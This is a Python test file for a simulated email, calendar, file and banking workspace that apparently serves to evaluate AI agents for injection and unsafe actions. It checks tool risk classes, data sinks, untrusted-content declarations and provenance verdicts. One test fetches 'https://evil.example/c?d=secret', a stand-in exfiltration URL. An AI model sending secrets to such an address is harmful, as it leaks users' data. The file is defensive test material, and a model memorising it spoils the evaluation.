"""The workspace tools: what they declare, and what their world does."""

from __future__ import annotations

from decimal import Decimal
from pathlib import Path

import pytest

from proctor.examples.workspace import TOOL_NAMES, Fixture, NotFound, Refused, World
from proctor.examples.workspace.tools import workspace_tools
from proctor.runs.provenance import Provenance
from proctor.tools import Effect


def test_twenty_tools_in_order(ws_world: World) -> None:
    assert tuple(t.name for t in workspace_tools(ws_world)) == TOOL_NAMES
    assert len(TOOL_NAMES) == 20


def test_effect_classes(ws_world: World) -> None:
    effects = {t.name: t.effect for t in workspace_tools(ws_world)}
    assert {n for n, e in effects.items() if e is Effect.DESTRUCTIVE} == {
        "delete_email",
        "delete_file",
    }
    assert {n for n, e in effects.items() if e is Effect.IRREVERSIBLE} == {
        "send_email",
        "set_forwarding",
        "send_money",
        "change_password",
    }
    reads = {n for n, e in effects.items() if e is Effect.READ}
    assert reads == {n for n in TOOL_NAMES if n.startswith(("list_", "read_"))} | {"fetch_url"}


def test_sinks_and_targets(ws_world: World) -> None:
    by_name = {t.name: t for t in workspace_tools(ws_world)}
    sinks = {n: set(t.sinks) for n, t in by_name.items() if t.sinks}
    assert sinks == {
        "send_email": {"to"},
        "set_forwarding": {"address"},
        "create_event": {"attendees"},
        "update_event": {"add_attendees"},
        "share_file": {"to"},
        "post_message": {"channel"},
        "add_user_to_channel": {"user"},
        "fetch_url": {"url"},
        "send_money": {"iban"},
    }
    targets = {n: set(t.targets) for n, t in by_name.items() if t.targets}
    assert targets == {
        "delete_email": {"email_id"},
        "update_event": {"event_id"},
        "share_file": {"file_id"},
        "delete_file": {"file_id"},
        "add_user_to_channel": {"channel"},
    }


def test_outside_content_is_declared_for_every_reader(ws_world: World) -> None:
    by_name = {t.name: t for t in workspace_tools(ws_world)}
    assert by_name["read_email"].untrusted == ("subject", "body", "sender_name")
    assert "emails[].sender" in by_name["list_emails"].identifiers
    assert by_name["list_channels"].untrusted == ("channels[].name",)
    assert "files[].name" in by_name["list_files"].untrusted
    assert "events[].description" in by_name["list_events"].untrusted
    assert "transactions[].subject" in by_name["list_transactions"].untrusted
    assert "transactions[].iban" in by_name["list_transactions"].identifiers
    assert by_name["fetch_url"].reads_outside_content
    assert not by_name["fetch_url"].untrusted
    assert all(t.trust is not None for t in by_name.values())


def test_effects_happen_once_per_key(ws_world: World) -> None:
    first = ws_world.send_email("k-1", "bob@acme.example", "Hi", "Hello")
    again = ws_world.send_email("k-1", "bob@acme.example", "Hi", "Hello")
    assert first == again
    assert len(ws_world.effects("sent")) == 1
    assert ws_world.effect("sent", "k-1") == first
    assert ws_world.effect("sent", "k-2") is None


def test_payments_move_the_balance_and_are_refused_past_it(ws_world: World) -> None:
    paid = ws_world.send_money("k-1", "DE44 5001 0517 5407 3249 31", Decimal("45.00"), "tickets")
    assert paid["iban"] == "DE44500105175407324931"
    assert ws_world.owner().balance == Decimal("4155.00")
    assert ws_world.paid_before("DE44-5001-0517-5407-3249-31")
    with pytest.raises(Refused):
        ws_world.send_money("k-2", "DE44500105175407324931", Decimal("99999.00"), "too much")
    with pytest.raises(Refused):
        ws_world.send_money("k-3", "not an iban", Decimal("1.00"), "x")


def test_deletes_shares_members_and_settings(ws_world: World) -> None:
    ws_world.delete("k-1", "emails", "em-8")
    assert "em-8" not in {e["id"] for e in ws_world.items("emails")}
    with pytest.raises(NotFound):
        ws_world.delete("k-2", "files", "f-99")
    ws_world.share_file("k-3", "f-3", "carol@acme.example", "view")
    assert "carol@acme.example" in ws_world.rows("files")[2]["shared_with"]
    ws_world.add_member("k-4", "#design", "bob@acme.example")
    assert "bob@acme.example" in ws_world.channel("design").members
    ws_world.change_setting("k-5", "forwarding", "bob@acme.example")
    assert ws_world.owner().forwarding == "bob@acme.example"
    with pytest.raises(Refused):
        ws_world.change_setting("k-6", "password", "short")


def test_a_fetch_is_recorded_even_for_an_unknown_page(ws_world: World) -> None:
    page = ws_world.fetch("k-1", "https://evil.example/c?d=secret")
    assert page["status"] == 404
    assert ws_world.effects("fetches") == [page]


def test_facts_the_policies_read(ws_world: World) -> None:
    assert ws_world.internal("Bob@ACME.example")
    assert not ws_world.internal("dana@partner.example")
    assert ws_world.contact("dana@partner.example")
    assert not ws_world.contact("mallory@evil.example")
    assert ws_world.paid_before("DE75512108001245126199")  # the landlord
    assert not ws_world.paid_before("DE44500105175407324931")  # Sarah only paid in
    assert ws_world.channel("ch-4").external


def test_fixture_overlay_checks_what_it_lays(tmp_path: Path) -> None:
    base = Fixture.load()
    laid = base.overlay(
        {"files": [{"id": "f-2", "content": "new"}], "owner": [{"balance": "1.00"}]}
    )
    assert laid.files[1].content == "new"
    assert laid.owner.balance == Decimal("1.00")
    with pytest.raises(ValueError, match="collection"):
        base.overlay({"orders": [{"id": "A-1"}]})
    with pytest.raises(ValueError, match="no channel ch-99"):
        base.overlay(
            {
                "messages": [
                    {
                        "id": "m-1",
                        "channel_id": "ch-99",
                        "author": "x",
                        "text": "hi",
                        "posted": "now",
                    }
                ]
            }
        )


async def test_verdicts_over_the_workspace_declarations(ws_world: World) -> None:
    by_name = {t.name: t for t in workspace_tools(ws_world)}
    p = Provenance()
    p.requester("Summarise my unread email")
    email = await by_name["read_email"].fn(email_id="em-2")
    p.observe(by_name["read_email"], email)
    listing = await by_name["list_transactions"].fn()
    p.observe(by_name["list_transactions"], listing)
    verdicts = p.of(
        {
            "to": "carol@acme.example",  # the sender: an identifier
            "subject": "Offsite logistics",  # outside content
            "iban": "DE75512108001245126199",  # on record
            "place": "14 Shore Road",  # in the body only
            "made_up": "mallory@evil.example",
        }
    )
    assert verdicts == {
        "to": "known",
        "subject": "untrusted",
        "iban": "known",
        "place": "untrusted",
        "made_up": "ungrounded",
    }
